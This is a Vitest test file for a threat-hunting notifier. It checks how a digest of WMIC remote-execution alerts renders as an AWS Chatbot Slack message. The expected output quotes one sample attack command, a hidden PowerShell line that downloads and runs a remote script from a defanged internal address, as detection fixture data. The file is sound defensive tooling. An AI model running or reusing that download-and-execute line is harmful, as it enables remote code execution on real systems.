/**
 * The storm digest as the AWS Chatbot custom notification an analyst reads in Slack: the title,
 * the description (statement, totals, ATT&CK, one line per top pair), the next steps, and the
 * metadata Chatbot threads and summarises by. Custom notification schema:
 * https://docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html
 */
import { describe, expect, it } from 'vitest';
import { renderDigest } from '../../lambda/notify/digest.js';
import { DEFAULT_LIMITS } from '../../lambda/notify/limits.js';
import { LONG_COMMAND, stormContext, stormPairs } from './digest-pairs.js';

const threadId = 'HuntQuery-Windows-WMIC-RemoteExec:digest:run-2026-03-14T10-30';
const topThree = [
  '• CRITICAL 95  `WKS-FIN-042` → `srv-file-01`  `powershell.exe -nop -w hidden -c "iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)"`',
  '• HIGH 80  `WKS-HR-007` → `srv-db-02`  `(none)`, arrived 30 h after it happened',
  // A Slack row shows at most 120 characters of the command, even when the Slack text cap is larger.
  `• MEDIUM 60  \`WKS-IT-113\` → \`srv-app-03\`  \`${LONG_COMMAND.slice(0, 120)} [...truncated, 265 chars in total]\``,
];

describe('the storm digest in Slack', () => {
  it('is the whole notification, with the pairs a short list leaves out counted', () => {
    expect(renderDigest(stormPairs(), stormContext, 3, { ...DEFAULT_LIMITS, list: 3 }).chatbot).toEqual({
      version: '1.0',
      source: 'custom',
      id: threadId,
      content: {
        textType: 'client-markdown',
        title: ':rotating_light: CRITICAL WMIC remote execution storm: 4 new host pairs (digest)',
        description: [
          'This run found 4 new host pairs, more than the storm limit of 3: this digest replaces the 4 per-pair messages (none of them was sent separately).',
          'Run totals: 6 findings, 4 new host pairs, 1 repeats (already notified), 1 suppressed by allowlists.',
          '*ATT&amp;CK:* T1047 (TA0008 Lateral Movement, TA0002 Execution)',
          '*Top 3 by risk:*',
          ...topThree,
          '… and 1 more (see the email or the JSON payload).',
        ].join('\n'),
        nextSteps: [
          'Isolate Both Hosts: Immediately isolate both the source (agent_hostname) and the destination (/node:) hosts to contain the threat.',
          "Analyze Command: Examine the command line to understand what process was executed on the remote host. This will reveal the attacker's immediate objective.",
        ],
        keywords: ['T1047', 'TA0008', 'TA0002', 'CRITICAL', 'HuntQuery-Windows-WMIC-RemoteExec'],
      },
      metadata: {
        threadId,
        summary: 'CRITICAL WMIC remote execution storm: 4 new host pairs',
        eventType: 'WmicRemoteExecutionDigest',
        additionalContext: { huntId: 'HuntQuery-Windows-WMIC-RemoteExec', runId: 'run-2026-03-14T10-30', pairs: '4', stormLimit: '3' },
      },
    });
  });

  it('ends with the last pair when every pair is listed', () => {
    const threeOfThree = stormPairs().filter((f) => f.severity !== 'low');
    const { description } = renderDigest(threeOfThree, stormContext, 2, { ...DEFAULT_LIMITS, list: 3 }).chatbot.content;
    expect(description.slice(description.indexOf('*Top '))).toBe(['*Top 3 by risk:*', ...topThree].join('\n'));
  });
});
